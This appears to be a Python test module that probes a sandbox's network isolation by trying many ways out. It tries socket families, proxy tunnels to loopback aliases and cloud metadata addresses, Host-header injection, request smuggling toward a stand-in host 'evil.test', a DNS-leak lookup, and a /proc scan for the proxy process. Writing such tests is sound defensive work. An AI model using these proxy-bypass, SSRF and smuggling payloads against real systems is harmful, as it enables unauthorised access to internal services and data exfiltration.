"""Attempts to reach somebody who listens outside."""

from __future__ import annotations

import os
import socket
from urllib.parse import urlsplit

from escapes.asking import escaped


def tcp(known):
    with socket.create_connection(("127.0.0.1", known["port"]), 2) as connection:
        escaped(connection.recv(10))


def tcp6(known):
    with socket.socket(socket.AF_INET6) as connection:
        connection.settimeout(2)
        connection.connect(("::1", known["port"]))
        escaped("tcp6")


def tcp_by_other_addresses(known):
    for host in known["addresses"]:
        try:
            with socket.create_connection((host, known["port"]), 1):
                escaped(host)
        except OSError:
            pass


def udp(known):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"ESCAPED by udp", ("127.0.0.1", known["udp"]))


def raw_socket(known):
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    escaped("raw")


def packet_socket(known):
    socket.socket(17, socket.SOCK_RAW)
    escaped("packet")


def netlink(known):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as opened:  # netfilter
        opened.bind((0, 0))
        escaped("netlink")


def vsock(known):
    socket.socket(socket.AF_VSOCK)
    escaped("vsock")


def crypto_socket(known):
    socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)
    escaped("alg")


def abstract_socket(known):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + known["abstract"])
        escaped("abstract")


def path_socket(known):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(known["socket"])
        escaped("path")


def resolve_names(known):
    escaped(socket.getaddrinfo("localhost.localdomain.invalid", 80))


def _told(*heads: str) -> str:
    """What the proxy, or whoever is behind it, answers to these bytes."""
    place = urlsplit(os.environ.get("HTTP_PROXY", ""))
    if place.hostname is None or place.port is None:
        raise OSError("there is no proxy")
    answer = b""
    with socket.create_connection((place.hostname, place.port), 3) as connection:
        for head in heads:
            connection.sendall(head.encode("latin-1"))
        connection.settimeout(1)
        try:
            while chunk := connection.recv(65536):
                answer += chunk
        except OSError:  # a tunnel stays open
            pass
    return answer.decode("latin-1")


def _tunnel(place: str) -> None:
    answer = _told(f"CONNECT {place} HTTP/1.1\r\n\r\n")
    if " 200 " in answer.split("\r\n")[0]:
        escaped(f"a tunnel to {place}")


def proxy_to_another_port(known):
    for host in ("localhost", "127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0"):
        _tunnel(f"{host}:{known['port']}")
        answer = _told(f"GET http://{host}:{known['port']}/ HTTP/1.1\r\nHost: localhost:{known['allowed']}\r\n\r\n")
        if " 403 " not in answer and " 400 " not in answer:
            escaped(answer)


def proxy_to_addresses_of_a_listed_name(known):
    for host in (
        "127.0.0.1", "127.0.0.2", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0.0.0.0", "[::1]", "[::]",
        "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[::1%25lo]", *known["addresses"],
    ):  # fmt: skip
        _tunnel(f"{host}:{known['allowed']}")


def proxy_to_names_that_only_look_listed(known):
    for host in (
        "localhost.", "LOCALHOST..", "localhost.localdomain", "x.localhost", "localhost@127.0.0.1", "localhost%00.test",
        "localhost\0.test", "127.0.0.1@localhost", "localhost#.test", "localhost\\.test", "ip6-localhost", "",
    ):  # fmt: skip
        if host != "localhost.":  # that is the name itself
            _tunnel(f"{host}:{known['allowed']}")
        _tunnel(f"{host}:{known['port']}")


def proxy_to_the_inside(known):
    for place in (
        "169.254.169.254:80",
        "metadata.google.internal:80",
        "10.0.0.1:443",
        "192.168.0.1:80",
        "[fe80::1]:80",
    ):
        _tunnel(place)


def proxy_with_another_host_field(known):
    place = f"localhost:{known['allowed']}"
    for fields in (
        "Host: evil.test\r\n", "Host: evil.test\r\nHost: evil.test\r\n", "Host : evil.test\r\n", " Host: evil.test\r\n",
        "X: y\nHost: evil.test\r\n", "X: y\rHost: evil.test\r\n", "X: y\r\n\tHost: evil.test\r\n",
        "Connection: host\r\nHost: evil.test\r\n", "HOST:evil.test\r\n",
    ):  # fmt: skip
        if "evil.test" in _told(f"GET http://{place}/ HTTP/1.1\r\n{fields}\r\n"):
            escaped(repr(fields))


def proxy_with_a_second_request(known):
    place = f"localhost:{known['allowed']}"
    second = "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    for fields, body in (
        ("", ""), ("Content-Length: 0\r\n", ""), ("Content-Length: 3\r\n", "abc"), ("Connection: keep-alive\r\n", ""),
        ("Content-Length: 3\r\nContent-Length: 200\r\n", "abc"), ("Transfer-Encoding: chunked\r\n", "0\r\n\r\n"),
        ("Content-Length: 200\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"), ("Upgrade: h2c\r\n", ""),
        ("Transfer-Encoding: xchunked\r\nContent-Length: 3\r\n", "abc"), ("Content-Length: +3\r\n", "abc"),
    ):  # fmt: skip
        if "evil.test" in _told(f"POST http://{place}/ HTTP/1.1\r\n{fields}\r\n{body}", second):
            escaped(repr(fields))


def proxy_with_odd_first_lines(known):
    place = f"localhost:{known['allowed']}"
    for line in (
        f"GET http://{place}@evil.test/ HTTP/1.1", f"GET http://evil.test#@{place}/ HTTP/1.1", "GET / HTTP/1.1",
        f"GET http://{place}/ HTTP/1.1\r\nHost: evil.test HTTP/1.1", f"GET  http://{place}/ evil.test HTTP/1.1",
        f"GET http://{place}\\@evil.test/ HTTP/1.1", f"GET http://{place}/\nHost:evil.test HTTP/1.1",
        f"CONNECT evil.test:80\r\nX: {place} HTTP/1.1", f"CONNECT {place}/../evil.test:80 HTTP/1.1",
    ):  # fmt: skip
        answer = _told(f"{line}\r\n\r\n")
        if "evil.test" in answer.partition("\r\n\r\n")[2] and " 403 " not in answer:
            escaped(repr(line))


def proxy_for_names(known):
    """A question for a name that is not listed would tell whoever answers for that name."""
    for host in ("secret.evil.test", "localhost.evil.test"):
        _tunnel(f"{host}:443")
        if " 403 " not in _told(f"CONNECT {host}:443 HTTP/1.1\r\n\r\n").split("\r\n")[0]:
            escaped(f"{host} was looked up")


def proxy_beside(known):
    """Whether there is any way but the proxy: the resolver, other addresses, a default route."""
    if "HTTP_PROXY" not in os.environ:
        raise OSError("there is no proxy")
    for place in [("127.0.0.53", 53), ("8.8.8.8", 53), ("1.1.1.1", 443), ("127.0.0.1", known["allowed"])]:
        try:
            socket.create_connection(place, 1).close()
        except OSError:
            continue
        escaped(place)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        try:
            sender.connect(("8.8.8.8", 53))
        except OSError:
            return
    escaped("there is a route")


def proxy_process(known):
    """The process behind the proxy is not to be found."""
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with open(f"/proc/{entry}/cmdline", "rb") as file:
                if file.read().endswith(b"\0proxy\0"):
                    escaped(entry)
